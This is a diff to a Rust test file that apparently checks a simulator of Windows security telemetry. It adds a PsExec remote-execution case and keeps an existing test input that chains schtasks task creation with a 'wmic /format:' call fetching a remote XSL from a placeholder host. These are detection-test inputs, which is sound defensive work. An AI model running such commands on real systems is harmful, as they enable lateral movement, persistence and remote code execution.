@@ -344,6 +344,21 @@ fn known_child_programs() {
     );
     let ev = events(&test(
         "command_prompt",
+        r"PsExec.exe -accepteula \\host cmd",
+    ));
+    assert_eq!(
+        field(of_kind(&ev, "registry_set")[0], "TargetObject"),
+        format!(
+            r"HKU\{}\Software\Sysinternals\psexec\EulaAccepted",
+            sim::USER_SID
+        )
+    );
+    assert_eq!(
+        field(of_kind(&ev, "file_event")[0], "TargetFilename"),
+        r"C:\Windows\PSEXESVC.exe"
+    );
+    let ev = events(&test(
+        "command_prompt",
         "schtasks /create /tn T /tr C:\\Temp\\t.exe /sc once /st 00:00 & schtasks /run /tn T & wmic /format:\"https://example.org/x.xsl\" os get",
     ));
     assert!(tree(&ev).contains(&"t.exe <- svchost.exe".to_string()));
